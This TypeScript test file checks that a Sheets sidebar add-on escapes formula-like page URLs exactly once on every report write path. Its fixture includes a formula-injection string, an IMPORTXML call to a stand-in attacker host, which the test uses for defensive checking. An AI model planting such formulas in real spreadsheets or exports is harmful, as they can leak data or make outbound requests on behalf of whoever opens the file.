import * as server from '../../src/sidebar/server';
import { sidebarWorld } from '../sidebar/world';

// Page paths the fake API serves among site-1's and site-2's pages.
const FORMULA_LIKE = ['=IMPORTXML("http://evil.example","//a")', '+1-cheap-trick'];

/** The values a sheet stores for the hostile page URLs (the apostrophe Sheets hides is not a value). */
function hostileValues(w: ReturnType<typeof sidebarWorld>, sheetName: string): string[] {
  const sheet = w.emu.platform().spreadsheet()!.getSheetByName(sheetName)!;
  const values = sheet.getDataRange().getValues().flat();
  return [...new Set(values.filter((v): v is string => typeof v === 'string' && /IMPORTXML|cheap-trick/.test(v)))].sort();
}

const PATHS: Record<string, object> = {
  'a plain pull': {},
  'a pull with totals': { totals: true },
  'a comparison with the previous period': { compareTo: 'previousPeriod' },
  'a comparison with totals': { compareTo: 'previousPeriod', totals: true },
};

describe('text that Sheets would read as a formula is escaped exactly once on every write path', () => {
  const sites: Array<[string, string | string[]]> = [
    ['one site', 'site-1'],
    ['several sites', ['site-1', 'site-2']],
  ];
  for (const [multi, siteId] of sites) {
    for (const [name, options] of Object.entries(PATHS)) {
      it(`${name} of ${multi} stores each page URL as the API sent it`, () => {
        const w = sidebarWorld();
        w.connect();
        server.runReport(w.ex(), { report: 'pages/performance', siteId, start: 'lastThirtyDays', sheetName: 'Out', options });
        expect(hostileValues(w, 'Out')).toEqual([...FORMULA_LIKE].sort());
        // Shown as the same text, never with an apostrophe of ours in front.
        const shown = w.shown('Out').flat();
        for (const text of FORMULA_LIKE) expect(shown).toContain(text);
        expect(shown.filter((s) => s.startsWith("'"))).toEqual([]);
      });
    }
  }
});
